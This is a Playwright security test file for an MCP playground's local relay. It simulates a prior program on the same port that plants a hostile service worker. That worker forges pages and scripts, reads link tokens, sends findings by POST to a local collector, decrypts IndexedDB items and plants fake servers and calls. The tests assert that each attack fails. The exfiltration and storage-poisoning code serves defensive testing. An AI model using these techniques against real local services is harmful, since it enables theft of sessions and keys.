/** What a program that had the relay's port before leaves in the browser gives it no access to the relay. */
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { createServer, type RequestListener } from "node:http";
import { text } from "node:stream/consumers";
import type { Page } from "@playwright/test";
import { createPageHost } from "../relay/http/pageHosts.ts";
import { createRelay, type Relay } from "../relay/server.ts";
import { itemPrefix } from "../web/platform/storage/sealedItems.ts";
import { storedPurpose } from "../web/platform/storage/sealing.ts";
import { pageDir } from "./ensureBuild.ts";
import { expect, test } from "./fixtures.ts";
import { createPlayground } from "./playground.ts";
import { freePort } from "./servers/process.ts";

/** Listens on a port as the next program may: on both loopback addresses. */
async function serveAt(port: number, listener: RequestListener): Promise<() => Promise<void>> {
  const servers = await Promise.all(
    ["127.0.0.1", "::1"].map(async (host) => {
      const server = createServer(listener).listen(port, host);
      await once(server, "listening");
      return server;
    }),
  );
  return async () => {
    for (const server of servers) {
      server.close();
      server.closeAllConnections();
      await once(server, "close");
    }
  };
}

/** Receives what the attacker's code finds out. */
async function openCollector() {
  const port = await freePort();
  const found: string[] = [];
  const close = await serveAt(port, async (request, response) => {
    const to = new URL(request.url ?? "", "http://collector").searchParams.get("to");
    if (to) return response.writeHead(302, { Location: `${to}/` }).end();
    found.push(await text(request));
    response.setHeader("Access-Control-Allow-Origin", "*").end();
  });
  return { url: `http://127.0.0.1:${port}/`, found, close };
}

/** Code of a page or a worker that tries to get access to the relay, and reports what it gets. */
const attack = (collector: string) => `
const report = (what, value) =>
  fetch(${JSON.stringify(collector)}, { method: "POST", mode: "no-cors", body: what + " " + value });
const post = async (path, body, headers = {}) => {
  const response = await fetch(path, {
    method: "POST",
    headers: { "Content-Type": "application/json", ...headers },
    body: JSON.stringify(body),
  });
  return response.status + " " + (await response.text());
};
async function attack(url) {
  await report("saw", url);
  const token = new URLSearchParams(new URL(url).hash.slice(1)).get("k");
  const document = await fetch("/", { redirect: "manual" });
  const pageLoad = /page-load;desc="(.*?)"/.exec(document.headers.get("Server-Timing") ?? "")?.[1];
  await report("document", document.status + " " + pageLoad);
  const session = await post("/api/session", { token, pageLoad });
  await report("session", session);
  const bearer = /"session":"(.*)"/.exec(session)?.[1];
  await report("link", await post("/api/link", {}, { Authorization: "Bearer " + bearer }));
  await report("pairing", await post("/api/pair", { kind: "ask" }));
  await report("key", await post("/api/device-key", {}, { Authorization: "Bearer " + bearer }));
}
/** Opens the real page in a window, directly or by way of another origin, and reads its id. */
function attackByWindow(url, address) {
  const opened = open(address);
  const read = () => {
    try {
      const [navigation] = opened.performance.getEntriesByType("navigation");
      return navigation.serverTiming.find(({ name }) => name === "page-load")?.description;
    } catch {}
  };
  const started = Date.now();
  const look = async () => {
    const pageLoad = read();
    if (!pageLoad && Date.now() - started < 2000) return setTimeout(look);
    const token = new URLSearchParams(new URL(url).hash.slice(1)).get("k");
    await report("window", address + " " + pageLoad + " " + (await post("/api/session", { token, pageLoad })));
  };
  look();
}`;

/**
 * The former program: its page registers a worker for the whole origin, which handles every
 * navigation as \`respond\` says.
 */
const formerProgram =
  (collector: string, respond: string): RequestListener =>
  (request, response) => {
    if (request.url === "/worker.js") {
      response.setHeader("Content-Type", "text/javascript").end(`${attack(collector)}
        addEventListener("install", () => skipWaiting());
        addEventListener("activate", (event) => event.waitUntil(clients.claim()));
        addEventListener("fetch", (event) => {
          const { url, mode } = event.request;
          if (url.startsWith(${JSON.stringify(collector)})) return;
          ${respond}
        });`);
      return;
    }
    response.setHeader("Content-Type", "text/html").end(`<!doctype html><title>former</title>
      <script>navigator.serviceWorker.register("/worker.js", { scope: "/" });
      navigator.serviceWorker.ready.then(() => { document.title = "registered"; });</script>`);
  };

/** Answers navigations with a page of its own, which looks into the link that was opened. */
const forgesPage = (collector: string) => `
  if (mode === "navigate" && (new URL(url).hash !== "" || !url.includes(".localhost:"))) {
    const page = ${JSON.stringify(`<!doctype html><title>forged</title><script>${attack(collector)}; attack(location.href).finally(() => { document.title = "forged, done"; });
      const ways = ["/", ${JSON.stringify(collector)} + "?to=" + origin];
      onclick = () => attackByWindow(location.href, ways.pop());</script>`)};
    event.waitUntil(attack(url));
    event.respondWith(new Response(page, { headers: { "Content-Type": "text/html", "Cross-Origin-Opener-Policy": "same-origin-allow-popups" } }));
  }`;

/** Lets documents through, reads the links of the tabs, and answers the page's scripts with its own. */
const forgesScripts = (collector: string) => `
  if (mode === "navigate") {
    event.waitUntil(new Promise((resolve) => setTimeout(resolve, 500))
      .then(() => clients.matchAll({ includeUncontrolled: true }))
      .then((tabs) => Promise.all(tabs.map((tab) => attack(tab.url)))));
  } else if (event.request.destination === "script") {
    const script = "fetch(" + JSON.stringify(${JSON.stringify(collector)}) + ", { method: 'POST', mode: 'no-cors', body: 'ran in the page' }); export const start = () => {};";
    event.respondWith(new Response(script, { headers: { "Content-Type": "text/javascript" } }));
  }`;

/** Passes every request on unchanged, and reads the answers. */
const passesOn = () => `
  event.respondWith(fetch(event.request));
  if (mode === "navigate") event.waitUntil(attack(url));`;

/** Opens addresses of the former program, which leaves its worker at each. */
async function visitFormer(page: Page, urls: readonly string[]) {
  for (const url of urls) {
    await page.goto(url);
    await expect(page).toHaveTitle("registered");
  }
  await page.goto("about:blank");
}

async function openRelayAt(
  port: number,
  name = createPageHost().name,
  deviceKey = randomBytes(32),
) {
  const said: string[] = [];
  const relay = await createRelay({
    port,
    pageDir,
    deviceKey,
    pageHost: () => ({ name, isNew: true }),
    say: (sentence) => said.push(sentence),
  });
  return { relay, said };
}

/** The page of a link is connected, and nothing was found out. */
async function expectConnected(page: Page, relay: Relay) {
  await page.goto(relay.createLink());
  await expect(createPlayground(page).button("Relay: connected")).toBeVisible();
}

const secret = /"(session|key|link|pairing)":/;

test("a worker at the loopback addresses gets no link, no session and no key", async ({
  page,
  watched,
}) => {
  const port = await freePort();
  const collector = await openCollector();
  const addresses = [`http://127.0.0.1:${port}/`, `http://localhost:${port}/`];
  for (const url of [collector.url, ...addresses]) watched.allow(url);
  const leave = await serveAt(port, formerProgram(collector.url, forgesPage(collector.url)));
  await visitFormer(page, addresses);
  await leave();
  const { relay } = await openRelayAt(port);
  watched.allow(relay.origin);
  try {
    await expectConnected(page, relay);
    expect(collector.found).toEqual([]);
    // its own page still opens at the former address, without anything to steal
    await page.goto(addresses[0] ?? "");
    await expect(page).toHaveTitle("forged, done");
    expect(collector.found.join("\n")).not.toMatch(secret);
    expect(collector.found.join("\n")).toContain("session 403");
    // the relay removes the worker, and the address leads to the page
    for (const address of addresses) {
      await expect(async () => {
        await page.goto(address);
        expect(page.url()).toBe(`${relay.origin}/`);
      }).toPass({ timeout: 30_000 });
    }
  } finally {
    await relay.close();
    await collector.close();
  }
});

for (const [what, respond] of [
  ["forges the page", forgesPage],
  ["forges the page's scripts", forgesScripts],
  ["reads the answers", passesOn],
] as const) {
  test(`a worker at the page's own address, from a program that the user opened there, gets nothing: it ${what}`, async ({
    page,
    watched,
  }) => {
    const port = await freePort();
    const collector = await openCollector();
    const { name } = createPageHost();
    const origin = `http://${name}:${port}`;
    for (const url of [collector.url, origin, `http://127.0.0.1:${port}`]) watched.allow(url);
    const leave = await serveAt(port, formerProgram(collector.url, respond(collector.url)));
    await visitFormer(page, [`${origin}/`]);
    await leave();
    const { relay, said } = await openRelayAt(port, name);
    try {
      await page.goto(relay.createLink());
      if (respond === forgesScripts) {
        // the document is the relay's own, which removes the worker and loads itself again
        await expect(createPlayground(page).button("Relay: connected")).toBeVisible();
      } else {
        await expect.poll(() => said.join()).toContain("did not come from this relay");
      }
      await expect.poll(() => collector.found.join("\n")).toContain("key 401");
      if (respond === forgesPage) {
        // the user presses something in the forged page, until the relay has it replaced
        for (const windows of [1, 2]) {
          await page.locator("html").click();
          await expect
            .poll(async () => {
              const title = await page.title().catch(() => "");
              return (
                !title.startsWith("forged") ||
                collector.found.filter((what) => what.startsWith("window")).length >= windows
              );
            })
            .toBe(true);
        }
      }
      const found = collector.found.join("\n");
      // it did see the link
      expect(found).toMatch(/saw \S+#k=/);
      expect(found).toContain("document 200 undefined");
      expect(found).toContain("session 403");
      expect(found).toContain("link 401");
      expect(found).toContain('pairing 404 {"kind":"off"}');
      expect(said.join()).not.toContain("type this code");
      expect(found).not.toMatch(secret);
      expect(found).not.toContain("ran in the page");
      // the worker is removed, so that the next link works
      await expect(async () => {
        await page.goto("about:blank");
        await page.goto(relay.createLink());
        await expect(createPlayground(page).button("Relay: connected")).toBeVisible();
      }).toPass({ timeout: 30_000 });
      expect(collector.found.join("\n")).not.toMatch(secret);
    } finally {
      await relay.close();
      await collector.close();
    }
  });
}

interface Attack {
  readonly planted: string;
  /** How the page derives keys and authenticates names. */
  readonly purpose: string;
  readonly prefix: string;
}

/**
 * Runs in a page of another program at the page's own address: decrypts what it can with the
 * browser's half, then writes a recent server, a call and a tab with it.
 * @returns everything that it could read
 */
async function readAndPlant({ planted, purpose, prefix }: Attack): Promise<string> {
  const request = <T>(asked: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      asked.onsuccess = () => resolve(asked.result);
      asked.onerror = () => reject(asked.error);
    });
  const things = async (name: string) => {
    const opening = indexedDB.open(name);
    opening.onupgradeneeded = () => opening.result.createObjectStore("things");
    const database = await request(opening);
    return () => database.transaction("things", "readwrite").objectStore("things");
  };
  const bytesOf = (text: string) => new TextEncoder().encode(text);
  const safe = await things("mcp-playground.safe");
  const half: CryptoKey = await request(safe().get("browser-half"));
  const keys = await Promise.all(
    ["", ", with a relay"].map((end) =>
      crypto.subtle.deriveKey(
        {
          name: "HKDF",
          hash: "SHA-256",
          salt: new Uint8Array(),
          info: bytesOf(purpose + end),
        },
        half,
        { name: "AES-GCM", length: 256 },
        false,
        ["encrypt", "decrypt"],
      ),
    ),
  );
  const found = [JSON.stringify(localStorage)];
  const names: string[] = [];
  for (const { name = "" } of await indexedDB.databases()) {
    if (!name.startsWith("mcp-playground.") || name === "mcp-playground.safe") continue;
    names.push(name);
    const store = await things(name);
    for (const key of await request(store().getAllKeys())) {
      const { iv, bytes } = await request(store().get(key));
      for (const each of iv ? keys : []) {
        const additionalData = bytesOf(prefix + String(key));
        await crypto.subtle.decrypt({ name: "AES-GCM", iv, additionalData }, each, bytes).then(
          (text) => found.push(new TextDecoder().decode(text)),
          () => found.push("unreadable"),
        );
      }
    }
  }
  const write = async (database: string, name: string, value: unknown, label: string) => {
    const iv = crypto.getRandomValues(new Uint8Array(12));
    const algorithm = { name: "AES-GCM", iv, additionalData: bytesOf(prefix + name) };
    const bytes = await crypto.subtle.encrypt(
      algorithm,
      keys[0] as CryptoKey,
      bytesOf(JSON.stringify(value)),
    );
    const store = await things(database);
    await request(store().put({ half: label, iv, bytes }, name));
  };
  const identities = [[planted, { name: planted }]];
  const call = { server: planted, item: { kind: "tool", name: planted }, at: 1, resultText: "" };
  const { half: label } = (await request(
    (await things("mcp-playground.recent"))().get("mcp-playground.servers"),
  )) ?? { half: "browser" };
  await write("mcp-playground.recent", "mcp-playground.server-identities", identities, label);
  for (const [at, each] of ["browser", label].entries()) {
    const name = `call 00000000000000${at} 000000010 ab`;
    await write("mcp-playground.history", name, { ...call, arguments: {} }, each);
  }
  return [...names, ...found].join("\n");
}

test("a program that gets the page's address later reads no results, and plants no servers or calls", async ({
  page,
  watched,
  everything,
}) => {
  const port = await freePort();
  const { name } = createPageHost();
  const key = randomBytes(32);
  watched.allow(`http://${name}:${port}`);
  const playground = createPlayground(page);
  const recent = playground.region("Recent");
  const planted = "npx planted-server";
  const first = await openRelayAt(port, name, key);
  await page.goto(first.relay.createLink());
  await playground.connect(everything.url);
  await playground.open("Tools", "echo");
  await playground.field("message").fill("a secret result");
  await playground.button("Call tool").click();
  await expect(playground.result).toContainText("Echo: a secret result");
  await expect
    .poll(() => page.evaluate(() => localStorage.getItem("mcp-playground.servers")))
    .toBe('"encrypted"');
  await expect
    .poll(() => page.evaluate(() => localStorage.getItem("mcp-playground.tabs")))
    .not.toBeNull();
  await page.goto("about:blank");
  await first.relay.close();

  const leave = await serveAt(port, (_, response) =>
    response.setHeader("Content-Type", "text/html").end("<!doctype html><title>later</title>"),
  );
  await page.goto(`http://${name}:${port}/`);
  await expect(page).toHaveTitle("later");
  const found = await page.evaluate(readAndPlant, {
    planted,
    purpose: storedPurpose,
    prefix: itemPrefix,
  });
  expect(found).toContain("mcp-playground.history");
  expect(found).toContain("mcp-playground.tab.");
  expect(found).toContain("unreadable");
  expect(found).not.toContain("secret result");
  await page.goto("about:blank");
  await leave();

  const again = await openRelayAt(port, name, key);
  try {
    await page.goto(again.relay.createLink());
    await expect(recent).toContainText(everything.url);
    await expect(playground.main).not.toContainText("planted");
    await page.goto("about:blank");
    // a recent server in plain
    await again.relay.close();
    const stay = await serveAt(port, (_, response) =>
      response.setHeader("Content-Type", "text/html").end("<!doctype html><title>later</title>"),
    );
    await page.goto(`http://${name}:${port}/`);
    await page.evaluate(
      (address) => localStorage.setItem("mcp-playground.servers", JSON.stringify([address])),
      planted,
    );
    await page.goto("about:blank");
    await stay();
  } finally {
    await again.relay.close();
  }
  const last = await openRelayAt(port, name, key);
  try {
    await page.goto(last.relay.createLink());
    await expect(playground.button("Relay: connected")).toBeVisible();
    await expect(page.locator("body")).not.toContainText("planted");
    await playground.connect(everything.url);
    await playground.tab("History").click();
    const calls = playground.region("History").getByRole("list", { name: "Calls" });
    await expect(calls.getByRole("button")).toHaveCount(1);
    await expect(calls).toContainText("echo");
  } finally {
    await last.relay.close();
  }
});
